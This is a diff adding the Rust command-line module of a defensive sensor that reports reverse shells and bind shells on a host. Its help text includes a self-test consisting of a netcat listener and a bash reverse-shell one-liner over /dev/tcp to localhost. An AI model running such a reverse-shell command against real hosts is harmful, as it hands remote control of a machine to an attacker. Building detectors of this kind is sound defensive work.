@@ -1,0 +1,131 @@
+//! The command line: one file a subcommand. `--help` is documentation.
+
+mod doctor;
+mod run;
+
+use std::{
+    io::{self, IsTerminal as _, Write as _},
+    process::ExitCode,
+};
+
+use clap::{Parser, Subcommand, ValueEnum};
+use tracing_subscriber::{EnvFilter, layer::SubscriberExt as _, util::SubscriberInitExt as _};
+
+use crate::{detect::Severity, model::Text};
+
+/// Reports when a network peer takes control of a program on this host: reverse shells, bind shells, and UNIX commands
+/// run through a socket.
+///
+/// It looks, in the kernel, at what the standard streams of every executed program ARE, so neither the name of the shell
+/// nor the way in which it was connected matters. One takeover is one finding, kept current until it ends.
+#[derive(Debug, Parser)]
+#[command(name = "sensor-daemon", version, max_term_width = 100, propagate_version = true)]
+#[command(after_help = "\
+First steps:
+  sensor-daemon doctor    is everything there that the sensor needs?
+  sensor-daemon run       watch; findings on standard output, diagnostics on standard error
+
+Then, from another terminal, a reverse shell to yourself:
+  nc -lp 4444 &
+  bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'")]
+struct Cli {
+    /// More diagnostics on standard error: -v debug, -vv also what the kernel side says. RUST_LOG overrides
+    #[arg(short, long, action = clap::ArgAction::Count, global = true)]
+    verbose: u8,
+    #[command(subcommand)]
+    command: Command,
+}
+
+#[derive(Debug, Subcommand)]
+enum Command {
+    /// Watch this host and write findings to standard output until told to stop
+    Run(run::Arguments),
+    /// Check each prerequisite: is it there, what does it cost if not, what to do
+    Doctor(doctor::Arguments),
+}
+
+/// How findings are written to standard output.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
+enum Format {
+    /// For people if standard output is a terminal, else JSON
+    Auto,
+    /// One JSON object a line: Google Security Command Center's finding (v2 API, `{finding, resource}`)
+    Json,
+    /// A few lines for people
+    Human,
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
+enum MinSeverity {
+    Low,
+    Medium,
+    High,
+    Critical,
+}
+
+impl From<MinSeverity> for Severity {
+    fn from(severity: MinSeverity) -> Self {
+        match severity {
+            MinSeverity::Low => Self::Low,
+            MinSeverity::Medium => Self::Medium,
+            MinSeverity::High => Self::High,
+            MinSeverity::Critical => Self::Critical,
+        }
+    }
+}
+
+/// Parses the command line and does what it says.
+#[must_use]
+pub fn main() -> ExitCode {
+    let cli = Cli::parse();
+    start_diagnostics(cli.verbose);
+    let result = match cli.command {
+        Command::Run(arguments) => run::run(&arguments, cli.verbose >= 2),
+        Command::Doctor(arguments) => doctor::doctor(&arguments),
+    };
+    result.unwrap_or_else(|error| {
+        // One line for each thing that was wrong, and no escape of a foreign byte.
+        let chain = error.chain().map(ToString::to_string).collect::<Vec<_>>().join(": ");
+        for line in chain.lines() {
+            // A closed standard error is no reason to die differently.
+            let _ = writeln!(io::stderr(), "sensor-daemon: {}", Text::from(line).for_terminal());
+        }
+        ExitCode::FAILURE
+    })
+}
+
+/// Diagnostics go to standard error; standard output belongs to findings.
+fn start_diagnostics(verbose: u8) {
+    let default = match verbose {
+        0 => "info,aya=warn,aya_obj=warn",
+        1 => "info,sensor_daemon=debug",
+        _ => "debug,sensor_daemon=trace",
+    };
+    let filter = EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new(default));
+    let terminal = io::stderr().is_terminal();
+    let layer = tracing_subscriber::fmt::layer()
+        .with_writer(io::stderr)
+        .with_ansi(terminal && std::env::var_os("NO_COLOR").is_none_or(|value| value.is_empty()))
+        .with_target(verbose > 0);
+    // Journald stamps lines itself.
+    let journal = std::env::var_os("JOURNAL_STREAM").is_some();
+    let registry = tracing_subscriber::registry().with(filter);
+    // Only a second call can fail, and there is none.
+    let _ = if journal {
+        registry.with(layer.without_time()).try_init()
+    } else {
+        registry.with(layer).try_init()
+    };
+}
+
+#[cfg(test)]
+mod tests {
+    use clap::CommandFactory as _;
+
+    use super::*;
+
+    #[test]
+    fn the_command_line_is_consistent() {
+        Cli::command().debug_assert();
+    }
+}
